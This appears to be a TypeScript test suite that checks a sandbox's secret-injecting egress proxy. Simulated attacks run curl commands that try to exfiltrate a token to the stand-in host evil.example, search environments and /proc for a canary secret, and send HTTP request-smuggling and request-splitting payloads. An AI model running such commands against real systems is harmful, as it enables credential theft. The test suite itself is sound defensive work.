import { once } from 'node:events';
import type { RequestListener, ServerResponse } from 'node:http';
import { type AddressInfo, type Server, type Socket, createServer } from 'node:net';
import { gzipSync } from 'node:zlib';
import { accountId, runId } from '@rondo/contract';
import { HeldSecrets } from '../../secrets/testing/held-secrets';
import { certificateFor } from '../../testing/certificates';
import { TestServers, publicAddresses } from '../../testing/test-servers';
import { engineUnderTest } from '../docker/testing/docker-fixture';
import { SandboxFixture } from '../embedded/testing/sandbox-fixture';
import type { Sandbox } from '../provider/sandbox';
import { run } from '../testing/run-command';

const account = accountId.parse('acc_1');
const ownRun = runId.parse('run_own');
const otherRun = runId.parse('run_other');
/** In no file of this spec but this one, and nowhere where a sandbox could find it. */
const canary = ['canary', 'a91f0e7d', '55c3'].join('-');
const base64 = Buffer.from(canary).toString('base64');
/** Used by one attack alone, so that nothing has masked it before. */
const late = ['late', '7c40be19'].join('-');
/** With what writers of JSON and of URLs escape, each in its own way. */
const escaped = `${canary}/+=&<'!*" \\~end`;

const inJson = (code: RegExp, toCode: (hex: string) => string) =>
  JSON.stringify(escaped).replaceAll(code, (character) => `\\u00${toCode(character.charCodeAt(0).toString(16))}`);

/** In which a host may write the value back. */
const forms: Readonly<Record<string, string>> = {
  'in Base64 after one byte': Buffer.from(`:${escaped}`).toString('base64'),
  'in Base64 among other text': Buffer.from(`Bearer ${escaped} and more`).toString('base64'),
  'in Base64 for URLs among other text': Buffer.from(`12${escaped}?`).toString('base64url'),
  'in JSON of PHP': JSON.stringify(escaped).replaceAll('/', '\\/'),
  'in JSON of Go': inJson(/[<>&]/g, (hex) => hex),
  'in JSON of Gson': inJson(/[<>&=']/g, (hex) => hex),
  'in JSON of .NET': inJson(/[<>&+']/g, (hex) => hex.toUpperCase()).replace('\\"', '\\u0022'),
  'in a URL, with all that RFC 3986 lets escape': encodeURIComponent(escaped).replace("'!*", '%27%21%2A'),
  'in a URL, in lower case': encodeURIComponent(escaped).replaceAll(/%../g, (code) => code.toLowerCase()),
  'in a form': new URLSearchParams({ a: escaped }).toString(),
  'in a path': encodeURIComponent(escaped).replaceAll('%2F', '/'),
};

describe('attack: secrets of a sandbox', () => {
  const tls = certificateFor('api.example', 'evil.example');
  const secrets = new HeldSecrets();
  /** Whole requests, as the hosts got them. */
  const seen: { host: string; text: string }[] = [];
  let fixture: SandboxFixture;
  let own: Sandbox;
  let other: Sandbox;
  let server: TestServers;
  /** Accepts connections and never says anything. */
  const silent = createServer();
  /** An answer that has begun and not ended. */
  let begun: ServerResponse | undefined;

  const answer: RequestListener = (request, response) => {
    const body: Buffer[] = [];
    request.on('data', (bytes: Buffer) => body.push(bytes));
    request.on('end', () => {
      const text = `${request.method} ${request.url} ${request.rawHeaders.join(' ')} ${Buffer.concat(body).toString()}`;
      seen.push({ host: request.headers.host ?? '', text });
      const { pathname, searchParams } = new URL(request.url ?? '', 'http://any');
      const to = searchParams.get('to');
      const form = searchParams.get('form');
      if (form !== null) return response.end(forms[form]);
      if (pathname === '/begin') return (begun = response).write('begun\n');
      begun?.end(text);
      if (to !== null) return response.writeHead(302, { Location: `${to}?was=${canary}` }).end();
      if (pathname === '/gzip') return response.writeHead(200, { 'Content-Encoding': 'gzip' }).end(gzipSync(text));
      if (pathname === '/zstd') return response.writeHead(200, { 'Content-Encoding': 'zstd' }).end(text);
      if (pathname !== '/pieces') return response.writeHead(200, `OK ${canary}`, { 'X-Back': text }).end(text);
      for (const piece of text.match(/.{1,3}/gs) ?? []) response.write(piece);
      return response.end();
    });
  };

  beforeAll(async () => {
    server = await TestServers.open(answer, { tls });
    await once(silent.listen(0, '127.0.0.2'), 'listening');
    fixture = await SandboxFixture.open(engineUnderTest, {
      resolve: () => Promise.resolve(['127.0.0.2']),
      isAllowed: (address) => publicAddresses.includes(address),
      secretSource: secrets.source,
      hostAuthority: tls.ca,
    });
    [own, other] = [await fixture.sandbox('thr_own'), await fixture.sandbox('thr_other')];
    const hosts = [`api.example:${server.port}`, `api.example:${readPort(silent)}`];
    for (const [name, value] of Object.entries({ TOKEN: canary, OTHER: canary, ESCAPED: escaped, LATE: late }))
      secrets.add(account, name, {
        ...{ value, allowed_hosts: hosts, methods: ['GET', 'POST'] },
        placement: { in: 'header', name: 'Authorization', prefix: 'Bearer ' },
      });
    secrets.allow(ownRun, 'TOKEN', 'ESCAPED', 'LATE');
    secrets.allow(otherRun, 'OTHER');
    await grantAll();
  });
  afterAll(async () => {
    await fixture.close();
    await server.close();
    silent.close();
  });
  beforeEach(async () => {
    seen.length = 0;
    secrets.uses.length = 0;
    secrets.refuse('TOKEN', undefined);
    await grantAll();
  });

  const grantAll = async () => {
    await fixture.provider.toEgress('thr_own').secrets?.grant({ account, run: ownRun, call: null });
    await fixture.provider.toEgress('thr_other').secrets?.grant({ account, run: otherRun, call: null });
  };
  const inRun = async (command: string) => (await run(own, command, { run: ownRun })).output;
  const at = (host: string, path = '/') => `https://${host}:${server.port}${path}`;
  const curl = 'curl -sS -k -m 10';
  const bearer = `-H "Authorization: Bearer $TOKEN"`;
  const arrived = () => seen.filter(({ text }) => text.includes(canary)).length;

  it('looks for the value in the environment, the processes and the files of the sandbox', async () => {
    await inRun(`${curl} ${bearer} ${at('api.example')} >answer.txt`);
    expect(arrived()).toBe(1);

    const half = [canary.slice(0, 9), canary.slice(9)];
    const found = await inRun(`
      needle='${half[0]}''${half[1]}'
      { env; declare -p; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; } | tr '\\0' '\\n' | grep -v "needle" >/tmp/seen.txt
      grep -rlF -- "$needle" /workspace /tmp /run /dev/shm /etc 2>/dev/null | grep -v "/own$\\|/sessions/"
      echo searched $(wc -l </tmp/seen.txt | tr -d ' ')`);

    expect(found).toMatch(/^searched [1-9]/);
    expect(found).not.toContain(base64);
  });

  it('looks for the value in the log of the executor', () => {
    expect(JSON.stringify(fixture.logged)).not.toContain(canary);
  });

  it.each([
    ['in a header of the answer', '-D -', '/'],
    ['in the body of the answer', '', '/'],
    ['in small pieces', '', '/pieces'],
    ['compressed, unasked', '--compressed', '/gzip'],
    ['in an encoding that cannot be looked into', '', '/zstd'],
    ['in the place that the answer names', '-D -', `/?to=https://evil.example/`],
  ])('has an allowed host write the value back: %s', async (_, options, path) => {
    const output = await inRun(`${curl} ${options} ${bearer} '${at('api.example', path)}'`);

    expect(arrived()).toBe(1);
    expect(output).not.toMatch(/canary|a91f0e7d/);
    expect(output).not.toContain(base64);
  });

  it.each(Object.entries(forms))('has an allowed host write the value back: %s', async (name, form) => {
    const header = `-H "Authorization: Bearer $ESCAPED"`;
    const output = await inRun(`${curl} ${header} '${at('api.example', `/?form=${encodeURIComponent(name)}`)}'`);

    expect(output).toHaveLength(form.length);
    expect(output).toMatch(/\*{30}/);
    for (const known of ['canary', 'a91f0e7d', form.slice(12, 20), form.slice(-16, -8)])
      expect(output).not.toContain(known);
  });

  it('has an allowed host tell it in an answer that was begun before', async () => {
    const output = await inRun(`
      ${curl} -N ${at('api.example', '/begin')} >begun.txt & until grep -q begun begun.txt; do sleep 0.02; done
      ${curl} -H "Authorization: Bearer $LATE" ${at('api.example')} >/dev/null; wait; cat begun.txt`);

    expect(output).toContain('Authorization Bearer ');
    expect(output).not.toContain(late);
  });

  it('leaves a host before it has proved its name, and keeps the connection to it', async () => {
    const connected = once(silent, 'connection') as Promise<[Socket]>;
    const left = inRun(`${curl} -m 1 https://api.example:${readPort(silent)}/`);
    const [connection] = await connected;
    connection.resume();

    await once(connection, 'close', { signal: AbortSignal.timeout(20_000) }); // an idle one is kept for a minute
    await left;
  });

  it('has an allowed host tell it in a later answer to a request without the placeholder', async () => {
    await inRun(`${curl} ${bearer} ${at('api.example')}`);

    expect(await inRun(`${curl} -d ${base64} ${at('api.example')}`)).not.toContain(base64);
  });

  it.each([
    ['to another host', () => `${curl} ${bearer} ${at('evil.example')}`, ''],
    [
      'by a redirect to another host',
      () => `${curl} -L --location-trusted ${bearer} '${at('api.example', `/?to=${at('evil.example')}`)}'`,
      '',
    ],
    ['in the body', () => `${curl} -d "$TOKEN" ${at('api.example')}`, ''],
    ['in the path', () => `${curl} ${at('api.example', '/$TOKEN')}`, 'stands where the secret does not go'],
    [
      'in another header',
      () => `${curl} -H "X-Key: $TOKEN" ${at('api.example')}`,
      'stands where the secret does not go',
    ],
    ['there and in another header', () => `${curl} ${bearer} -H "X-Key: $TOKEN" ${at('api.example')}`, 'does not go'],
    [
      'under the name of another host',
      () => `${curl} ${bearer} -H 'Host: evil.example' ${at('api.example')}`,
      'names another host',
    ],
    ['to another port', () => `${curl} ${bearer} https://api.example:1/`, ''],
    ['without TLS', () => `${curl} ${bearer} http://api.example:${server.port}/`, ''],
    [
      'with another method',
      () => `${curl} ${bearer} -X DELETE ${at('api.example')}`,
      'may not be used with this method',
    ],
  ])('sends the placeholder %s', async (_, given, said) => {
    const command = given();
    const output = await inRun(`${command} 2>&1`);

    expect(output).toContain(said);
    expect(output).not.toMatch(/a91f0e7d/);
    expect(seen.filter(({ host, text }) => host.startsWith('evil') && text.includes(canary))).toEqual([]);
    expect(arrived()).toBe(command.includes('-L ') ? 1 : 0); // the host that redirects is an allowed one
  });

  it('uses the placeholder of another sandbox', async () => {
    const stolen = (await inRun('echo $TOKEN')).trim();
    const output = await run(other, `${curl} -H "Authorization: Bearer ${stolen}" ${at('api.example')}`, {
      run: otherRun,
    });

    expect(output.output).toContain(stolen);
    expect(arrived()).toBe(0);
  });

  it('guesses that a placeholder of the same name is the same elsewhere', async () => {
    const placeholders = [await inRun('echo $TOKEN'), (await run(other, 'echo $OTHER', { run: otherRun })).output];

    expect(new Set(placeholders).size).toBe(2);
  });

  it.each(['revoked', 'expired', 'run_over'] as const)('uses a secret that is %s', async (refusal) => {
    secrets.refuse('TOKEN', refusal);
    const output = await inRun(`${curl} ${bearer} ${at('api.example')}`);

    expect(output).toMatch(/^The secret TOKEN /);
    expect(seen).toEqual([]);
    expect(secrets.uses).toMatchObject([{ refusal }]);
  });

  it('sends a secret before the person who has to allow it has decided', async () => {
    secrets.requireApproval('TOKEN');
    const command = `${curl} ${bearer} ${at('api.example')}`;
    const tried = inRun(`${command} & ${command} & ${curl} -m 1 ${bearer} ${at('api.example')}; wait`);
    await secrets.asked('TOKEN');
    secrets.decide('TOKEN', 'deny');

    expect(await tried).toContain('a person denied it');
    expect(await inRun(command)).toContain('a person denied it');
    expect(seen).toEqual([]);
  });

  it('is refused by the very next request of a connection that was used before', async () => {
    const command = `${curl} ${bearer} -w '' ${at('api.example')} --next -sS -k ${bearer} ${at('api.example')}`;
    await inRun(command);
    expect(arrived()).toBe(2);
    secrets.refuse('TOKEN', 'revoked');

    await inRun(command);
    expect(arrived()).toBe(2);
  });

  it('keeps using a secret when its run has ended', async () => {
    const placeholder = (await inRun('echo $TOKEN')).trim();
    await fixture.provider.endRun('thr_own', ownRun);
    const header = `-H "Authorization: Bearer ${placeholder}"`;
    await run(own, `HTTPS_PROXY=http://127.0.0.1:3129 ${curl} ${header} ${at('api.example')}`);

    expect(arrived()).toBe(0);
  });

  it('hides a second request behind the first, and speaks something else than HTTP', async () => {
    const connect = `CONNECT api.example:${server.port} HTTP/1.1\\r\\n\\r\\n`;
    const speak = (text: string) => `node -e '
      const tls = require("node:tls"), net = require("node:net");
      const socket = net.connect(3129, "127.0.0.1", () => socket.write("${connect}"));
      const text = process.argv[1].replaceAll("TOKEN", process.env.TOKEN);
      socket.once("data", () => {
        const secured = tls.connect({ socket, rejectUnauthorized: false }, () => secured.write(text));
        secured.on("error", () => {}).on("close", () => process.exit()).pipe(process.stdout);
      });' $'${text}'`;
    const host = `api.example:${server.port}`;
    const smuggled = `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\nAuthorization: Bearer TOKEN\\r\\n\\r\\n0\\r\\n\\r\\nDELETE / HTTP/1.1\\r\\n\\r\\n`;
    const absolute = `GET https://evil.example/ HTTP/1.1\\r\\nHost: ${host}\\r\\nAuthorization: Bearer TOKEN\\r\\n\\r\\n`;
    const split = `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\nAuthorization: Bearer TOKEN\\r\\nX: \\n\\nGET /\\r\\n\\r\\n`;

    for (const text of [smuggled, absolute, split, 'SSH-2.0-x\\r\\n'])
      expect(await inRun(speak(text))).not.toContain(canary);
    expect(arrived()).toBe(0);
  });
});

const readPort = (listening: Server): number => (listening.address() as AddressInfo).port; // it listens on a port
